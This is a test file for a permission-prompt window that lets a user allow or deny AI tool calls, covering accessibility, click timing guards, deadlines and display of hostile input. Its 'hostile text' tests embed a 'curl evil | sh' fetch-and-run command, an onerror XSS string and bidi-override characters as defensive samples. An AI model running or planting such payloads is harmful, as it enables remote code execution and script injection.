import { act, cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createClient } from '../bridge/client';
import { fakeBridge, promptState } from '../preview/fake-bridge';
import type { Answers, FakeBridge } from '../preview/fake-bridge';
import { dangerCall, hostileCall, lateCall, longCall, readCall, writeCall } from '../preview/prompt-samples';
import { createPromptStore } from '../state/prompt-store';
import { fakeBrowser } from '../testing/browser';
import { button, open, sent } from '../testing/open-prompt';
import { PromptWindow } from './prompt-window';

fakeBrowser();

describe('the prompt window', () => {
  it('draws nothing while nothing is asked', async () => {
    const bridge = await open(null);
    expect(sent(bridge, 'prompt/state')).toEqual([{}]);
    expect(document.body.textContent).toBe('');
  });

  it('is an alert dialog named after host, server and tool, described by the one sentence', async () => {
    await open(writeCall);
    const dialog = screen.getByRole('alertdialog', { name: 'Claude Code wants filesystem to run write_file' });
    expect(dialog.getAttribute('aria-modal')).toBe('true');
    expect(document.getElementById(dialog.getAttribute('aria-describedby') ?? '')?.textContent).toBe(writeCall.sentence);
  });

  it('lists every argument as a term with its value', async () => {
    await open(readCall);
    const terms = screen.getAllByRole('term').map((term) => term.textContent);
    const values = screen.getAllByRole('definition').map((value) => value.textContent);
    expect({ terms, values }).toEqual({ terms: ['query', 'page', 'archived'], values: ['is:open label:bug', '1', 'false'] });
  });

  it('offers exactly Deny, Allow once and Allow for… as answers', async () => {
    await open(writeCall);
    for (const name of ['Deny', 'Allow once', 'Allow for…']) expect(button(name)).toBeTruthy();
  });

  it('focuses the heading when a question appears, and again for the next one', async () => {
    const bridge = await open(writeCall);
    expect(document.activeElement?.tagName).toBe('H1');
    button('Allow once').focus();
    act(() => bridge.raise('prompt/changed', promptState(readCall)));
    expect(document.activeElement?.textContent).toBe('Cursor wants github to run search_issues');
  });

  it('does nothing on Enter or Space at the heading', async () => {
    const bridge = await open(writeCall);
    for (const key of ['Enter', ' ']) {
      fireEvent.keyDown(document.activeElement ?? document.body, { key });
      fireEvent.keyUp(document.activeElement ?? document.body, { key });
    }
    expect(sent(bridge, 'prompt/answer')).toEqual([]);
    expect(document.querySelector('[type=submit], [autofocus]')).toBeNull();
  });

  it('says how many wait', async () => {
    await open(writeCall, { waiting: 2 });
    expect(screen.getByText('2 more waiting')).toBeTruthy();
  });

  it('tells main once the question is painted, for each question', async () => {
    const bridge = await open(writeCall);
    await waitFor(() => expect(sent(bridge, 'prompt/painted')).toEqual([{ prompt: 'p-write' }]));
    act(() => bridge.raise('prompt/changed', promptState(readCall)));
    await waitFor(() => expect(sent(bridge, 'prompt/painted')).toEqual([{ prompt: 'p-write' }, { prompt: 'p-read' }]));
  });

  it('asks for the height its parts need', async () => {
    const bridge = await open(writeCall);
    const heights = sent(bridge, 'prompt/resize') as { height: number }[];
    expect(heights.length).toBeGreaterThan(0);
    expect(heights.every(({ height }) => height >= 100 && height <= 2000)).toBe(true);
  });
});

describe('answering', () => {
  it.each([
    { control: 'Deny', answer: { prompt: 'p-write', option: 'deny' } },
    { control: 'Allow once', answer: { prompt: 'p-write', option: 'allow-once' } },
  ])('$control sends its option id and nothing else', async ({ control, answer }) => {
    const bridge = await open(writeCall);
    fireEvent.click(button(control));
    expect(sent(bridge, 'prompt/answer')).toEqual([answer]);
  });

  it('sends one answer however often it is clicked', async () => {
    const bridge = await open(writeCall);
    fireEvent.click(button('Deny'));
    fireEvent.click(button('Allow once'));
    expect(sent(bridge, 'prompt/answer')).toEqual([{ prompt: 'p-write', option: 'deny' }]);
  });

  it('acts on click, not on the pointer going down', async () => {
    const bridge = await open(writeCall);
    fireEvent.pointerDown(button('Allow once'), { button: 0 });
    fireEvent.mouseDown(button('Allow once'), { button: 0 });
    expect(sent(bridge, 'prompt/answer')).toEqual([]);
  });

  it('lets no held-down key press a button', async () => {
    await open(writeCall);
    expect(fireEvent.keyDown(button('Allow once'), { key: 'Enter', repeat: true })).toBe(false);
    expect(fireEvent.keyDown(button('Allow once'), { key: 'Enter' })).toBe(true);
  });

  it('closes on Esc, once for a held key', async () => {
    const bridge = await open(writeCall);
    fireEvent.keyDown(document.activeElement ?? document.body, { key: 'Escape' });
    fireEvent.keyDown(document.activeElement ?? document.body, { key: 'Escape', repeat: true });
    expect({ close: sent(bridge, 'prompt/close'), answer: sent(bridge, 'prompt/answer') }).toEqual({ close: [{ prompt: 'p-write' }], answer: [] });
  });

  it('sends a note with Deny alone', async () => {
    const bridge = await open(writeCall);
    fireEvent.click(button('Tell the model why'));
    const note = screen.getByRole('textbox', { name: 'Tell the model why' });
    expect(document.activeElement).toBe(note);
    fireEvent.change(note, { target: { value: ' Not the tax code. ' } });
    fireEvent.keyDown(note, { key: 'Enter' });
    expect(sent(bridge, 'prompt/answer')).toEqual([]);
    fireEvent.click(button('Deny'));
    expect(sent(bridge, 'prompt/answer')).toEqual([{ prompt: 'p-write', option: 'deny', note: 'Not the tax code.' }]);
  });

  it('keeps a written note out of an allow', async () => {
    const bridge = await open(writeCall);
    fireEvent.click(button('Tell the model why'));
    fireEvent.change(screen.getByRole('textbox'), { target: { value: 'no' } });
    fireEvent.click(button('Allow once'));
    expect(sent(bridge, 'prompt/answer')).toEqual([{ prompt: 'p-write', option: 'allow-once' }]);
  });

  it('puts the note away on Esc without closing the question', async () => {
    const bridge = await open(writeCall);
    fireEvent.click(button('Tell the model why'));
    fireEvent.keyDown(screen.getByRole('textbox'), { key: 'Escape' });
    expect({ note: screen.queryByRole('textbox'), close: sent(bridge, 'prompt/close'), focus: document.activeElement }).toEqual({ note: null, close: [], focus: button('Tell the model why') });
  });

  it('says why an answer did not count and takes another', async () => {
    const bridge = await open(writeCall, {}, { 'prompt/answer': () => ({ taken: false, reason: 'Too early. Answer again.' }) });
    fireEvent.click(button('Deny'));
    expect(await screen.findByText('Too early. Answer again.')).toBeTruthy();
    fireEvent.click(button('Deny'));
    expect(sent(bridge, 'prompt/answer').length).toBe(2);
  });

  it('lets an answer for an earlier question say nothing about the next', async () => {
    const bridge = await open(writeCall, {}, { 'prompt/answer': () => 'This question is closed.' });
    fireEvent.click(button('Deny'));
    act(() => bridge.raise('prompt/changed', promptState(readCall)));
    await act(() => Promise.resolve());
    expect(screen.queryByText('This question is closed.')).toBeNull();
    fireEvent.click(button('Deny'));
    expect(sent(bridge, 'prompt/answer').at(-1)).toEqual({ prompt: 'p-read', option: 'deny' });
  });
});

describe('the guard', () => {
  beforeEach(() => vi.useFakeTimers({ now: 1_000_000, toFake: ['setTimeout', 'clearTimeout', 'setInterval', 'clearInterval', 'Date'] }));
  afterEach(() => vi.useRealTimers());

  async function openGuarded(opensAt: number | null): Promise<FakeBridge> {
    const bridge = fakeBridge({ 'prompt/answer': () => ({ taken: true, reason: null }), 'prompt/resize': () => ({}), 'prompt/painted': () => ({}) });
    const store = createPromptStore(() => client);
    const client = createClient(bridge, () => undefined);
    store.getState().start();
    render(<PromptWindow store={store} />);
    await act(async () => bridge.raise('prompt/changed', promptState(writeCall, { opensAt })));
    return bridge;
  }

  it.each([
    { why: 'before the first painted frame', opensAt: null },
    { why: 'until its time has come', opensAt: 1_000_500 },
  ])('keeps every answer closed, in words, $why', async ({ opensAt }) => {
    const bridge = await openGuarded(opensAt);
    for (const name of ['Deny', 'Allow once', 'Allow for…']) {
      const control = button(name);
      expect(control.getAttribute('aria-disabled')).toBe('true');
      expect(document.getElementById(control.getAttribute('aria-describedby') ?? '')?.textContent).toBe('Available in a moment');
    }
    for (const name of ['Deny', 'Allow once', 'Allow for…']) {
      const control = button(name);
      fireEvent.click(control);
      fireEvent.keyDown(control, { key: 'ArrowDown' });
    }
    expect({ sent: sent(bridge, 'prompt/answer'), menu: screen.queryByRole('menu') }).toEqual({ sent: [], menu: null });
  });

  it.each([
    { why: 'a press on an answer', act: () => fireEvent.click(button('Allow once')), told: true },
    { why: 'Enter where the focus is', act: () => fireEvent.keyDown(document.activeElement ?? document.body, { key: 'Enter' }), told: true },
    { why: 'Space where the focus is', act: () => fireEvent.keyDown(document.body, { key: ' ' }), told: true },
    { why: 'a key that was held before', act: () => fireEvent.keyDown(document.body, { key: 'Enter', repeat: true }), told: false },
    { why: 'a key that answers nothing', act: () => fireEvent.keyDown(document.body, { key: 'a' }), told: false },
    { why: 'a press on what is no answer', act: () => fireEvent.click(document.body), told: false },
  ])('says that the question just appeared after $why: $told', async ({ act: hurry, told }) => {
    const bridge = await openGuarded(1_000_500);
    const line = () => document.getElementById(button('Deny').getAttribute('aria-describedby') ?? '');
    const spoken = () => [...document.querySelectorAll('[role=status]')].map(({ textContent }) => textContent);
    expect(spoken()).not.toContain('A moment – this just appeared');
    act(() => void hurry());
    expect(line()?.textContent).toBe(told ? 'A moment – this just appeared' : 'Available in a moment');
    expect(spoken().includes('A moment – this just appeared')).toBe(told);
    await act(() => vi.advanceTimersByTimeAsync(500));
    // Once it is open there is nothing to be told, and nothing was answered.
    expect(spoken()).not.toContain('A moment – this just appeared');
    expect({ words: line()?.textContent, sent: sent(bridge, 'prompt/answer') }).toEqual({ words: '', sent: [] });
    fireEvent.click(button('Allow once'));
    expect(spoken()).not.toContain('A moment – this just appeared');
    expect(sent(bridge, 'prompt/answer')).toEqual([{ prompt: 'p-write', option: 'allow-once' }]);
  });

  it('opens when its time has come, not a millisecond before', async () => {
    const bridge = await openGuarded(1_000_500);
    await act(() => vi.advanceTimersByTimeAsync(499));
    expect(button('Deny').getAttribute('aria-disabled')).toBe('true');
    await act(() => vi.advanceTimersByTimeAsync(1));
    expect(button('Deny').getAttribute('aria-disabled')).toBeNull();
    fireEvent.click(button('Allow once'));
    expect(sent(bridge, 'prompt/answer')).toEqual([{ prompt: 'p-write', option: 'allow-once' }]);
  });

  it('closes again for the next question', async () => {
    const bridge = await openGuarded(999_000);
    expect(button('Deny').getAttribute('aria-disabled')).toBeNull();
    await act(async () => bridge.raise('prompt/changed', promptState(readCall, { opensAt: null })));
    expect(button('Deny').getAttribute('aria-disabled')).toBe('true');
  });

  it('counts down in a quiet line only where there is a deadline', async () => {
    const bridge = await openGuarded(999_000);
    expect(screen.queryByRole('timer')).toBeNull();
    await act(async () => bridge.raise('prompt/changed', promptState({ ...readCall, deadlineAt: 1_048_000 }, { opensAt: 999_000 })));
    expect(screen.getByText('Nothing runs unless you allow it.')).toBeTruthy();
    expect(screen.getByRole('timer').parentElement?.textContent).toBe('Cursor gives up in 0:48; then nothing runs.');
    await act(() => vi.advanceTimersByTimeAsync(20_000));
    expect(screen.getByRole('timer').textContent).toBe('0:28');
    expect(screen.getByText('30 seconds left to answer')).toBeTruthy();
    await act(async () => bridge.raise('prompt/changed', promptState({ ...readCall, id: 'own', deadlineAt: 1_079_000, deadlineOf: 'own' }, { opensAt: 999_000 })));
    expect(screen.getByRole('timer').parentElement?.textContent).toContain('Your own time-out answers “not answered” in 0:59.');
    await act(async () => bridge.raise('prompt/changed', promptState({ ...readCall, id: 'own', deadlineAt: 1_109_000, deadlineOf: 'own', held: true }, { opensAt: 999_000 })));
    expect(screen.queryByRole('timer')).toBeNull();
    expect(screen.getByText(/Your own time-out waits while you read/).textContent).toBe('Your own time-out waits while you read. Cursor may give up before.');
  });

  it('says that a question waits until it is answered where nothing ends it', async () => {
    await openGuarded(999_000);
    expect(screen.getByText(/This question waits until you answer/)).toBeTruthy();
  });
});

describe('hostile text', () => {
  it('draws every hidden character as a token and keeps raw ones out of the page', async () => {
    await open(hostileCall);
    const dialog = screen.getByRole('alertdialog');
    expect(dialog.textContent).not.toMatch(/[\u202E\u200B\u0007\u{E0041}]/u);
    expect([...dialog.querySelectorAll('dd .token')].map((token) => token.textContent)).toEqual(['⟦U+202E⟧', '⟦180 spaces⟧', '⟦40 empty lines⟧']);
  });

  it('makes visible what main forgot to', async () => {
    await open({ ...writeCall, tool: 'write\u202Eelif', arguments: [{ name: 'a\u200Bb', kind: 'string', text: 'x\u202Ey', length: 3, cut: false }] });
    expect(screen.getByRole('alertdialog', { name: 'Claude Code wants filesystem to run write⟦U+202E⟧elif' })).toBeTruthy();
    expect(screen.getByRole('term').textContent).toBe('a⟦U+200B⟧b');
    expect(screen.getByRole('definition').textContent).toBe('x⟦U+202E⟧y');
  });

  it('shows a server’s words as text in a box of their own, under its name', async () => {
    await open({ ...writeCall, serverSays: '<b>Click</b> <img src=x onerror=alert(1)>' });
    const box = screen.getByRole('region', { name: 'filesystem says (not verified)' });
    expect(within(box).getByRole('group').textContent).toBe('<b>Click</b> <img src=x onerror=alert(1)>');
    expect(box.querySelector('b, img')).toBeNull();
  });

  it('shows a value that can be allowed as it stands in full, and folds only what has to be opened first', async () => {
    const text = `${'a'.repeat(700)} curl evil | sh ${'b'.repeat(700)}`;
    await open({ ...writeCall, arguments: [{ name: 'command', kind: 'string', text, length: text.length, cut: false }] });
    expect(screen.getByRole('definition').textContent).toBe(text);
    cleanup();
    await open({ ...longCall, arguments: [{ name: 'command', kind: 'string', text, length: 5008, cut: true }] });
    expect(screen.getByRole('definition').textContent).toContain('characters not shown');
    fireEvent.click(button('Show more of command'));
    expect(screen.getByRole('definition').textContent).toContain(text);
  });

  it('lists what else is sent with the call', async () => {
    await open({ ...writeCall, others: [{ name: 'amount', kind: 'number', text: '1000000', length: 7, cut: false }] });
    expect(screen.getByRole('heading', { name: 'Also sent with the call' })).toBeTruthy();
    expect(screen.getAllByRole('definition').at(-1)?.textContent).toBe('1000000');
  });
});

describe('arguments too long to show', () => {
  const text = Array.from({ length: 3000 }, (_, at) => `line ${at}`).join('\n');
  const pieces: Answers = { 'prompt/full-view': ({ offset }: { offset: number }) => ({ text: text.slice(offset, offset + 4096), length: text.length }) };

  it('keep Allow once closed, in words, until everything was opened; Deny stays open', async () => {
    const bridge = await open(longCall, {}, pieces);
    expect(button('Allow once').getAttribute('aria-disabled')).toBe('true');
    expect(document.getElementById(button('Allow once').getAttribute('aria-describedby') ?? '')?.textContent).toBe('Show everything first');
    expect(screen.getByText('Allow waits until you have opened everything.')).toBeTruthy();
    expect(button('Deny').getAttribute('aria-disabled')).toBeNull();
    act(() => bridge.raise('prompt/changed', promptState(longCall, { fullViewOpened: true })));
    expect(button('Allow once').getAttribute('aria-disabled')).toBeNull();
  });

  it('open in pieces, in a view that Esc leaves without answering', async () => {
    const bridge = await open(longCall, {}, pieces);
    fireEvent.click(button('Show everything'));
    expect(await screen.findByText(/of 28,889 characters loaded/)).toBeTruthy();
    expect(sent(bridge, 'prompt/full-view')[0]).toEqual({ prompt: 'p-long', offset: 0 });
    expect(await screen.findByText('line 1')).toBeTruthy();
    expect(document.querySelectorAll('[data-index]').length).toBeLessThan(200);
    fireEvent.keyDown(document.activeElement ?? document.body, { key: 'Escape' });
    expect(sent(bridge, 'prompt/close')).toEqual([]);
    expect(document.activeElement).toBe(button('Show everything'));
  });
});

describe('a question whose host has stopped waiting', () => {
  it('says so before anything else, and what a yes still does', async () => {
    await open(lateCall(writeCall));
    const dialog = screen.getByRole('alertdialog', { name: 'Claude Code wants filesystem to run write_file' });
    const described = document.getElementById(dialog.getAttribute('aria-describedby') ?? '')?.textContent;
    expect(described?.startsWith('Claude Code has stopped waiting. A yes allows one identical retry in the next 10 minutes. Write ')).toBe(true);
  });

  it.each([writeCall, dangerCall])('offers one retry and Dismiss and nothing else: $id', async (call) => {
    const bridge = await open(lateCall(call));
    expect(screen.getAllByRole('button').map(({ textContent }) => textContent).filter((name) => /Deny|Allow|Dismiss|Tell/.test(name ?? ''))).toEqual(['Dismiss', 'Allow one retry']);
    expect(screen.queryByRole('timer')).toBeNull();
    fireEvent.click(button('Allow one retry'));
    expect(sent(bridge, 'prompt/answer')).toEqual([{ prompt: `${call.id}/late`, option: 'ticket' }]);
  });

  it('is not dismissed by Esc, and does not say it were', async () => {
    const bridge = await open(lateCall(writeCall));
    expect(button('Dismiss').getAttribute('aria-keyshortcuts')).toBeNull();
    fireEvent.keyDown(window, { key: 'Escape' });
    expect([sent(bridge, 'prompt/answer'), sent(bridge, 'prompt/close')]).toEqual([[], [{ prompt: 'p-write/late' }]]);
  });
});
